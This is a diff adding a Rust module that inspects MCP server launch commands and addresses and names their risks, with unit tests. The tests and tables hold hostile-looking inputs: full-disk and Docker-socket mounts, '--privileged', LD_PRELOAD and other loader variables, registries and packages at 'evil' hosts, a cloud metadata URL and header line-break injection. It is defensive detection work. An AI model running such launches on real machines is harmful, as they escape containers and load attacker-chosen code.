@@ -1,0 +1,685 @@
+//! What a described launch would do besides running the server that it names: mount this computer's files, leave the
+//! container, run another package, load other code. Pure; one table for every way in: descriptions, bundles, pasted
+//! texts and other programs' files. It names the risks; whether they are refused or asked about is decided elsewhere.
+
+use serde_json::{Map, Value};
+
+/// Variables that decide which code is loaded, by how they begin; a name that ends with `=` is meant whole.
+const LOADER_VARIABLES: &[&str] = &[
+    "PATH=",
+    "PATHEXT=",
+    "COMSPEC=",
+    "SYSTEMROOT=",
+    "WINDIR=",
+    "HOME=",
+    "USERPROFILE=",
+    "XDG_CONFIG_",
+    "SHELL=",
+    "LD_",
+    "DYLD_",
+    "GCONV_PATH=",
+    "GLIBC_TUNABLES=",
+    "NODE_OPTIONS=",
+    "NODE_PATH=",
+    "NODE_EXTRA_CA_CERTS=",
+    "NODE_TLS_REJECT_UNAUTHORIZED=",
+    "NODE_REPL_EXTERNAL_MODULE=",
+    "ELECTRON_RUN_AS_NODE=",
+    "NPM_CONFIG_",
+    "YARN_",
+    "PNPM_",
+    "BUN_",
+    "DENO_",
+    "COREPACK_",
+    "PYTHON",
+    "PIP_",
+    "UV_",
+    "PIPX_",
+    "POETRY_",
+    "CONDA_",
+    "VIRTUAL_ENV=",
+    "BASH_ENV=",
+    "BASH_FUNC_",
+    "ENV=",
+    "SHELLOPTS=",
+    "BASHOPTS=",
+    "PROMPT_COMMAND=",
+    "PS4=",
+    "ZDOTDIR=",
+    "IFS=",
+    "GIT_SSH",
+    "GIT_EXEC_PATH=",
+    "GIT_CONFIG",
+    "GIT_PROXY_COMMAND=",
+    "GIT_ASKPASS=",
+    "GIT_EDITOR=",
+    "GIT_SEQUENCE_EDITOR=",
+    "GIT_PAGER=",
+    "GIT_EXTERNAL_DIFF=",
+    "GIT_TEMPLATE_DIR=",
+    "GIT_SSL_",
+    "SSH_ASKPASS=",
+    "SUDO_ASKPASS=",
+    "EDITOR=",
+    "VISUAL=",
+    "PAGER=",
+    "BROWSER=",
+    "LESSOPEN=",
+    "LESSCLOSE=",
+    "JAVA_TOOL_OPTIONS=",
+    "_JAVA_OPTIONS=",
+    "JDK_JAVA_OPTIONS=",
+    "JAVA_OPTS=",
+    "JAVA_HOME=",
+    "CLASSPATH=",
+    "MAVEN_OPTS=",
+    "GRADLE_OPTS=",
+    "RUBYOPT=",
+    "RUBYLIB=",
+    "GEM_",
+    "BUNDLE_",
+    "PERL",
+    "PHPRC=",
+    "PHP_INI_SCAN_DIR=",
+    "LUA_INIT",
+    "LUA_PATH",
+    "LUA_CPATH",
+    "R_PROFILE",
+    "R_ENVIRON",
+    "GOFLAGS=",
+    "GOPROXY=",
+    "GOSUMDB=",
+    "GONOSUM",
+    "GOTOOLCHAIN=",
+    "GOROOT=",
+    "CARGO_",
+    "RUSTC",
+    "RUSTFLAGS=",
+    "RUSTUP_",
+    "DOTNET_STARTUP_HOOKS=",
+    "DOTNET_ROOT",
+    "DOTNET_ADDITIONAL_DEPS=",
+    "DOTNET_SHARED_STORE=",
+    "CORECLR_",
+    "COR_",
+    "COMPLUS_",
+    "NUGET_",
+    "DOCKER_",
+    "CONTAINER_HOST=",
+    "CONTAINERS_",
+    "HTTP_PROXY=",
+    "HTTPS_PROXY=",
+    "ALL_PROXY=",
+    "SSL_CERT_",
+    "REQUESTS_CA_BUNDLE=",
+    "CURL_CA_BUNDLE=",
+    "CURL_HOME=",
+    "OPENSSL_",
+    "HOSTALIASES=",
+    "LOCALDOMAIN=",
+    "PSMODULEPATH=",
+    "SATCHEL_",
+];
+/// Of those, the ones that only change how text is read and written.
+const HARMLESS_VARIABLES: &[&str] =
+    &["PYTHONUNBUFFERED", "PYTHONIOENCODING", "PYTHONUTF8", "PYTHONDONTWRITEBYTECODE", "UV_NO_PROGRESS"];
+/// Programs that start another one: what follows is looked at in their place.
+const WRAPPERS: &[&str] = &[
+    "env", "sudo", "doas", "nice", "nohup", "time", "timeout", "stdbuf", "setsid", "command", "exec", "cmd",
+    "start",
+];
+const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "fish", "powershell", "pwsh"];
+/// Docker's options that have no value.
+const DOCKER_SWITCHES: &[&str] = &[
+    "-i",
+    "-t",
+    "-it",
+    "-ti",
+    "-d",
+    "-q",
+    "-P",
+    "--interactive",
+    "--tty",
+    "--detach",
+    "--rm",
+    "--init",
+    "--read-only",
+    "--quiet",
+    "--no-healthcheck",
+    "--publish-all",
+    "--sig-proxy",
+    "--oom-kill-disable",
+    "--disable-content-trust",
+    "--replace",
+    "--help",
+];
+/// What a launcher of packages may be told before the package.
+const NPX_PLAIN: &[&str] = &[
+    "-y",
+    "--yes",
+    "-q",
+    "--quiet",
+    "-s",
+    "--silent",
+    "--no-install",
+    "--prefer-offline",
+    "--prefer-online",
+    "--offline",
+    "--bun",
+    "--",
+    "x",
+    "exec",
+    "dlx",
+];
+const UVX_PLAIN: &[&str] =
+    &["-q", "--quiet", "--offline", "--no-progress", "--no-cache", "--isolated", "--refresh", "--"];
+/// Options of `uv run` that have other code come along.
+const UV_RUN: &[&str] = &[
+    "--with",
+    "--with-editable",
+    "--with-requirements",
+    "--index",
+    "--index-url",
+    "--default-index",
+    "--extra-index-url",
+    "--find-links",
+    "--config-file",
+    "--env-file",
+    "-i",
+    "-f",
+    "-w",
+];
+
+/// What the launch would do besides, in sentences without a subject: "mounts …". `chosen` are values that a person gave:
+/// a directory that they named themselves is no risk that a description brings.
+pub fn of_program(
+    command: &str,
+    args: &[String],
+    env: &Map<String, Value>,
+    chosen: &[String],
+) -> Vec<String> {
+    let words: Vec<String> = std::iter::once(command.to_owned()).chain(args.iter().cloned()).collect();
+    let mut risks: Vec<String> = env.keys().filter_map(|name| variable(name)).collect();
+    look(&words, env, chosen, 0, &mut risks);
+    let mut seen = std::collections::BTreeSet::new();
+    risks.retain(|risk| seen.insert(risk.clone()));
+    risks
+}
+
+/// The same for an address that a description names: where it leads, and what its headers would change.
+pub fn of_address(url: &str, headers: &Map<String, Value>) -> Vec<String> {
+    let mut risks = Vec::new();
+    let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
+    let authority = rest.split(['/', '?', '#', '\\']).next().unwrap_or_default();
+    if authority.contains('@') {
+        risks.push("has credentials in its address".to_owned());
+    }
+    let host = authority.rsplit('@').next().unwrap_or_default();
+    if is_inside(host) {
+        risks.push(format!("leads to {host}, which is this computer or its own network"));
+    }
+    for (name, value) in headers {
+        let broken = |text: &str| text.chars().any(char::is_control);
+        let lower = name.to_ascii_lowercase();
+        let reserved = matches!(
+            lower.as_str(),
+            "host" | "content-length" | "transfer-encoding" | "connection" | "upgrade" | "te" | "trailer"
+        );
+        if broken(name) || value.as_str().is_some_and(broken) {
+            risks.push("has a line break or control character in a header".to_owned());
+        } else if reserved || lower.starts_with("mcp-") || lower.starts_with("proxy-") {
+            risks.push(format!("sets the header {name}, which belongs to the connection"));
+        }
+    }
+    risks
+}
+
+fn is_inside(host: &str) -> bool {
+    let name = match host.strip_prefix('[') {
+        Some(rest) => rest.split(']').next().unwrap_or_default(),
+        None => host.split(':').next().unwrap_or_default(),
+    };
+    let name = name.trim_end_matches('.').to_ascii_lowercase();
+    if let Ok(address) = name.parse::<std::net::IpAddr>() {
+        return match address {
+            std::net::IpAddr::V4(four) => is_inside_v4(four),
+            std::net::IpAddr::V6(six) => match six.to_ipv4() {
+                Some(four) => is_inside_v4(four) || six.is_loopback(),
+                None => {
+                    matches!(six.segments()[0] & 0xffc0, 0xfe80 | 0xfec0)
+                        || six.segments()[0] & 0xfe00 == 0xfc00
+                }
+            },
+        };
+    }
+    let inner = ["localhost", "local", "internal", "lan", "home", "intranet"];
+    // Numbers in other spellings (`0x7f.1`, `2130706433`) are addresses to some programs.
+    let number =
+        name.split('.').next_back().is_some_and(|last| last.starts_with(|c: char| c.is_ascii_digit()));
+    number || name.split('.').next_back().is_some_and(|last| inner.contains(&last)) || !name.contains('.')
+}
+
+fn is_inside_v4(four: std::net::Ipv4Addr) -> bool {
+    let [first, second, ..] = four.octets();
+    four.is_loopback()
+        || four.is_private()
+        || four.is_link_local()
+        || four.is_unspecified()
+        || (first == 100 && second & 0xc0 == 64)
+}
+
+fn variable(name: &str) -> Option<String> {
+    let upper = name.to_ascii_uppercase();
+    if HARMLESS_VARIABLES.contains(&upper.as_str()) {
+        return None;
+    }
+    let decides = LOADER_VARIABLES.iter().any(|known| match known.strip_suffix('=') {
+        Some(whole) => upper == whole,
+        None => upper.starts_with(known),
+    });
+    decides.then(|| format!("sets {name}, which decides what code is loaded or where it comes from"))
+}
+
+fn look(
+    words: &[String],
+    env: &Map<String, Value>,
+    chosen: &[String],
+    depth: usize,
+    risks: &mut Vec<String>,
+) {
+    let Some((program, args)) = words.split_first().filter(|_| depth < 8) else { return };
+    let name = program_name(program);
+    match name.as_str() {
+        "docker" | "podman" | "nerdctl" | "finch" => docker(&name, args, env, chosen, risks),
+        "npx" | "bunx" | "pnpx" | "pnx" => npx(&name, args, risks),
+        "npm" | "pnpm" | "yarn" | "bun" => {
+            let runs = |word: &String| matches!(word.as_str(), "exec" | "x" | "dlx");
+            match args.iter().position(runs) {
+                Some(at) => {
+                    let before = args[..at].iter().filter(|word| word.starts_with('-')).cloned();
+                    npx(&name, &before.chain(args[at + 1..].iter().cloned()).collect::<Vec<_>>(), risks);
+                }
+                None => npx(
+                    &name,
+                    &args.iter().take_while(|word| word.starts_with('-')).cloned().collect::<Vec<_>>(),
+                    risks,
+                ),
+            }
+        }
+        "uvx" => launcher("uvx", args, UVX_PLAIN, risks),
+        "pipx" => {
+            launcher("pipx", args.strip_prefix(&["run".to_owned()][..]).unwrap_or(args), UVX_PLAIN, risks)
+        }
+        "uv" => uv(args, risks),
+        "dnx" => launcher("dnx", args, &["-y", "--yes", "--prerelease"], risks),
+        name if WRAPPERS.contains(&name) => {
+            for word in args.iter().take_while(|word| word.contains('=') || word.starts_with('-')) {
+                risks.extend(word.split_once('=').and_then(|(name, _)| variable(name)));
+            }
+            let rest = args.iter().position(|word| {
+                !word.contains('=')
+                    && !word.starts_with(['-', '/'])
+                    && !word.starts_with(|c: char| c.is_ascii_digit())
+            });
+            let rest = rest.or_else(|| args.iter().position(|word| word.starts_with('/') && word.len() > 2));
+            if let Some(at) = rest {
+                look(&args[at..], env, chosen, depth + 1, risks);
+            }
+        }
+        name if SHELLS.contains(&name) => {
+            let plain = |word: &str| word.trim_matches(['"', '\'', '(', ')', '`', '$', '{', '}']).to_owned();
+            for line in args.iter().filter(|word| word.contains(char::is_whitespace)) {
+                for part in line.split([';', '|', '&', '\n']) {
+                    let words: Vec<String> = part.split_whitespace().map(plain).collect();
+                    let set = words.iter().take_while(|word| word.contains('=')).count();
+                    risks.extend(words[..set].iter().filter_map(|word| variable(word.split('=').next()?)));
+                    look(&words[set..], env, chosen, depth + 1, risks);
+                }
+            }
+        }
+        _ => {}
+    }
+}
+
+/// Without its directory and ending.
+fn program_name(program: &str) -> String {
+    let name = program.rsplit(['/', '\\']).next().unwrap_or(program).to_ascii_lowercase();
+    let endings = [".exe", ".cmd", ".bat", ".ps1"];
+    endings.iter().find_map(|ending| name.strip_suffix(ending)).map_or(name.clone(), ToOwned::to_owned)
+}
+
+/// The options before the first word that is none, each with its value. Options that are not in `switches` and have no
+/// `=` take the next word.
+fn options<'a>(args: &'a [String], switches: &[&str]) -> (Vec<(&'a str, &'a str)>, Option<&'a str>) {
+    let (mut found, mut words) = (Vec::new(), args.iter());
+    while let Some(word) = words.next() {
+        if word == "--" {
+            return (found, words.next().map(String::as_str));
+        }
+        if !word.starts_with('-') || word.len() < 2 {
+            return (found, Some(word));
+        }
+        match word.split_once('=') {
+            Some((name, value)) => found.push((name, value)),
+            None if switches.contains(&word.as_str()) => found.push((word, "")),
+            // `-v/:/host` and `-eNAME` are written together.
+            None if !word.starts_with("--") && word.len() > 2 && word.is_char_boundary(2) => {
+                found.push(word.split_at(2));
+            }
+            None => found.push((word, words.next().map_or("", String::as_str))),
+        }
+    }
+    (found, None)
+}
+
+fn docker(name: &str, args: &[String], env: &Map<String, Value>, chosen: &[String], risks: &mut Vec<String>) {
+    let runs = |word: &String| matches!(word.as_str(), "run" | "create" | "exec");
+    let start = args.iter().position(runs).map_or(args.len(), |at| at);
+    for word in args[..start].iter().filter(|word| word.starts_with('-')) {
+        risks.push(format!("tells {name} {word}: containers of another place or with other settings"));
+    }
+    let rest = args.get(start + 1..).unwrap_or_default();
+    let mut switches = DOCKER_SWITCHES.to_vec();
+    switches.push("--privileged");
+    for (option, value) in options(rest, &switches).0 {
+        let shown = if value.is_empty() { option.to_owned() } else { format!("{option} {value}") };
+        match option {
+            "-v" | "--volume" => risks.extend(mount(value, chosen)),
+            "--mount" => {
+                let field = |names: &[&str]| {
+                    value.split(',').find_map(|part| {
+                        part.split_once('=')
+                            .filter(|(key, _)| names.contains(&key.trim()))
+                            .map(|(_, value)| value)
+                    })
+                };
+                let source = field(&["source", "src"]).unwrap_or_default();
+                if field(&["type"]).is_none_or(|kind| kind != "volume" && kind != "tmpfs") || is_place(source)
+                {
+                    risks.extend(mount(&format!("{source}:"), chosen));
+                }
+            }
+            "--network" | "--net" | "--pid" | "--ipc" | "--uts" | "--userns" | "--cgroupns"
+                if value == "host" || value.starts_with("container:") || value.starts_with("ns:") =>
+            {
+                risks
+                    .push(format!("shares this computer's {} with the container ({shown})", meaning(option)));
+            }
+            "--privileged" if value != "false" => {
+                risks.push("gives the container every right on this computer (--privileged)".to_owned());
+            }
+            "-e" | "--env" if !value.is_empty() && !value.contains('=') && !env.contains_key(value) => {
+                risks.push(format!("passes your variable {value} on to the container"));
+            }
+            "-e" | "--env" => {}
+            option
+                if option.starts_with("--cap-add")
+                    || option.starts_with("--device")
+                    || matches!(
+                        option,
+                        "--security-opt"
+                            | "--volumes-from"
+                            | "--env-file"
+                            | "--gpus"
+                            | "--runtime"
+                            | "--cgroup-parent"
+                            | "--use-api-socket"
+                            | "--group-add"
+                            | "--sysctl"
+                            | "--volume-driver"
+                            | "--volume-opt"
+                    ) =>
+            {
+                risks.push(format!("opens the container's walls ({shown})"));
+            }
+            _ => {}
+        }
+    }
+}
+
+fn meaning(option: &str) -> &'static str {
+    match option {
+        "--network" | "--net" => "network",
+        "--pid" => "processes",
+        _ => "namespaces",
+    }
+}
+
+/// `source:target`; a source that is a name is a volume of its own.
+fn mount(value: &str, chosen: &[String]) -> Option<String> {
+    let windows = value.as_bytes().get(1) == Some(&b':')
+        && value.as_bytes().first().is_some_and(u8::is_ascii_alphabetic);
+    let colon = value.bytes().enumerate().skip(if windows { 2 } else { 0 }).find(|(_, byte)| *byte == b':');
+    let source = &value[..colon?.0];
+    if !is_place(source) || chosen.iter().any(|chosen| chosen == source) {
+        return None;
+    }
+    Some(if source.ends_with(".sock") || source.contains("docker_engine") {
+        format!("hands the container {source}, and with it this computer")
+    } else if source.trim_end_matches(['/', '\\', '.']).len() < 3 {
+        "lets the container read and change the whole disk".to_owned()
+    } else {
+        format!("lets the container read and change {source}")
+    })
+}
+
+fn is_place(source: &str) -> bool {
+    source.starts_with(['/', '.', '~', '\\', '$', '%'])
+        || source.contains(['/', '\\'])
+        || source.as_bytes().get(1) == Some(&b':')
+}
+
+fn npx(name: &str, args: &[String], risks: &mut Vec<String>) {
+    let mut words = args.iter().peekable();
+    while let Some(word) = words.next() {
+        if !word.starts_with('-') && !NPX_PLAIN.contains(&word.as_str()) {
+            return;
+        }
+        let bare = word.split('=').next().unwrap_or(word);
+        match bare {
+            word if NPX_PLAIN.contains(&word) => {}
+            "-p" | "--package" => {
+                let package = word
+                    .split_once('=')
+                    .map_or_else(|| words.next().map_or("", |next| next), |(_, value)| value);
+                risks.push(format!("has {name} run the package {package} ({bare})"));
+            }
+            "--loglevel" => drop(words.next_if(|_| !word.contains('='))),
+            _ => {
+                let value = words.next_if(|next| !word.contains('=') && !next.starts_with('-'));
+                let value = value.map(|value| format!(" {value}")).unwrap_or_default();
+                risks.push(format!(
+                    "tells {name} {word}{value}: another package, place or program than it names"
+                ));
+            }
+        }
+    }
+}
+
+fn uv(args: &[String], risks: &mut Vec<String>) {
+    match args.iter().position(|word| matches!(word.as_str(), "run" | "tool" | "x")) {
+        Some(at) if args[at] != "run" => {
+            let rest = args.get(at + 1..).unwrap_or_default();
+            launcher("uv", rest.strip_prefix(&["run".to_owned()][..]).unwrap_or(rest), UVX_PLAIN, risks);
+        }
+        _ => {
+            for word in args.iter().take_while(|word| *word != "--") {
+                let bare = word.split('=').next().unwrap_or(word);
+                if UV_RUN.contains(&bare) {
+                    risks.push(format!("tells uv {word}: other code comes along"));
+                }
+            }
+        }
+    }
+}
+
+/// A launcher whose options before the package are not all plain runs something else than it seems to.
+fn launcher(name: &str, args: &[String], plain: &[&str], risks: &mut Vec<String>) {
+    for (option, value) in options(args, plain).0 {
+        let version = option == "--python" && value.starts_with(|c: char| c.is_ascii_digit());
+        if !plain.contains(&option) && !version {
+            let shown = if value.is_empty() { option.to_owned() } else { format!("{option} {value}") };
+            risks.push(format!("tells {name} {shown}: another package, place or program than it names"));
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn risks(line: &str) -> usize {
+        let mut words = line.split(' ').map(ToOwned::to_owned);
+        let command = words.next().unwrap();
+        of_program(&command, &words.collect::<Vec<_>>(), &Map::new(), &["/mine".to_owned()]).len()
+    }
+
+    #[test]
+    fn a_launch_that_only_runs_what_it_names_has_no_risk() {
+        for line in [
+            "npx -y good-mcp@1.0.0 --package mine -p 1 --registry x",
+            "npx --yes --quiet @scope/mcp",
+            "npm exec -y good-mcp -- -p x",
+            "pnpm dlx good-mcp",
+            "bun run server.ts",
+            "uvx good-mcp@1.0 --from x --index-url y",
+            "uvx --python 3.12 good-mcp",
+            "uv run --directory /mine server.py",
+            "docker run -i --rm ghcr.io/github/github-mcp-server -v /:/host --privileged",
+            "docker run -i --rm -e A=1 --name x -p 80:80 image",
+            "docker run -i --rm -v cache:/data image",
+            "docker run -i --rm -v /mine:/data image",
+            "docker run --rm --mount type=bind,src=/mine,dst=/data image",
+            "docker run --network bridge image --network host",
+            "dnx Good.Mcp@1 --yes",
+            "node server.js --device x",
+        ] {
+            assert_eq!(risks(line), 0, "{line}");
+        }
+    }
+
+    #[test]
+    fn what_a_launch_does_besides_is_named() {
+        for line in [
+            "docker run -i --rm -v /:/host image",
+            "docker run -v/:/host image",
+            "docker run --volume=/etc:/x:ro image",
+            "docker run -v ~/.ssh:/ssh image",
+            "docker run -v C:\\Users:/x image",
+            "docker run -v /var/run/docker.sock:/s image",
+            "docker run --mount type=bind,source=/,target=/host image",
+            "podman run --network host image",
+            "/usr/bin/podman container run --net=host image",
+            "docker run --pid=host image",
+            "docker run --ipc host image",
+            "docker run --privileged image",
+            "docker run --privileged=true image",
+            "docker run --cap-add=SYS_ADMIN image",
+            "docker run --device /dev/sda image",
+            "docker run --security-opt seccomp=unconfined image",
+            "docker run --unknown-option value --privileged image",
+            "docker run -e GITHUB_TOKEN image",
+            "docker -H tcp://evil run image",
+            "docker.exe run --userns=host image",
+            "npx --package evil good",
+            "npx -y -p evil good",
+            "npx --package=evil good",
+            "npx.cmd --registry https://evil good",
+            "npx --node-options=--require=/x good",
+            "npx -c 'curl'",
+            "npm --registry https://evil exec good",
+            "npm exec --package evil good",
+            "bunx -p evil good",
+            "uvx --from git+https://evil good",
+            "uvx --index-url https://evil good",
+            "uvx --with evil good",
+            "uv tool run --from evil good",
+            "uv run --with evil server.py",
+            "pipx run --spec evil good",
+            "dnx --source https://evil good",
+            "env LD_PRELOAD=/x node server.js",
+            "sudo docker run --privileged image",
+            "cmd /c npx -p evil good",
+        ] {
+            assert_eq!(risks(line), 1, "{line}");
+        }
+        let shell = |line: &str| of_program("sh", &["-c".into(), line.into()], &Map::new(), &[]).len();
+        assert_eq!((shell("exec docker run -v /:/host image"), shell("A=1 node server.js")), (1, 0));
+    }
+
+    #[test]
+    fn variables_that_decide_what_is_loaded_are_named_in_any_case() {
+        let set = |name: &str| {
+            of_program("x", &[], &Map::from_iter([(name.to_owned(), "v".into())]), &[]).len() == 1
+        };
+        for name in [
+            "PATH",
+            "Path",
+            "LD_PRELOAD",
+            "LD_LIBRARY_PATH",
+            "DYLD_INSERT_LIBRARIES",
+            "NODE_OPTIONS",
+            "PYTHONPATH",
+            "PYTHONSTARTUP",
+            "BASH_ENV",
+            "npm_config_registry",
+            "NPM_CONFIG_REGISTRY",
+            "PIP_INDEX_URL",
+            "UV_INDEX_URL",
+            "GIT_SSH_COMMAND",
+            "JAVA_TOOL_OPTIONS",
+            "RUBYOPT",
+            "PERL5OPT",
+            "DOTNET_STARTUP_HOOKS",
+            "HTTPS_PROXY",
+        ] {
+            assert!(set(name), "{name}");
+        }
+        for name in [
+            "API_KEY",
+            "GITHUB_TOKEN",
+            "PYTHONUNBUFFERED",
+            "NODE_ENV",
+            "DATABASE_PATH",
+            "GIT_AUTHOR_NAME",
+            "ENVIRONMENT",
+        ] {
+            assert!(!set(name), "{name}");
+        }
+    }
+
+    #[test]
+    fn an_address_inside_and_a_header_of_the_connection_are_named() {
+        let none = Map::new();
+        for url in [
+            "http://169.254.169.254/latest",
+            "http://192.168.0.1/mcp",
+            "https://localhost:1/",
+            "http://[::1]/",
+            "http://[fe80::1]/",
+            "http://[::ffff:10.0.0.1]/",
+            "http://2130706433/",
+            "http://0x7f.1/",
+            "https://router.lan/",
+            "https://user:pass@evil.example/",
+            "https://intranet/mcp",
+        ] {
+            assert_eq!(of_address(url, &none).len(), 1, "{url}");
+        }
+        assert!(of_address("https://mcp.example.com:443/mcp?x=1", &none).is_empty());
+        for (name, value) in [
+            ("Host", "a"),
+            ("Mcp-Session-Id", "a"),
+            ("X\r\nY", "a"),
+            ("X", "a\r\nB: c"),
+            ("content-length", "1"),
+        ] {
+            let headers = Map::from_iter([(name.to_owned(), value.into())]);
+            assert_eq!(of_address("https://mcp.example.com/", &headers).len(), 1, "{name:?}");
+        }
+        assert!(
+            of_address("https://mcp.example.com/", &Map::from_iter([("X-Key".into(), "a".into())]))
+                .is_empty()
+        );
+    }
+}
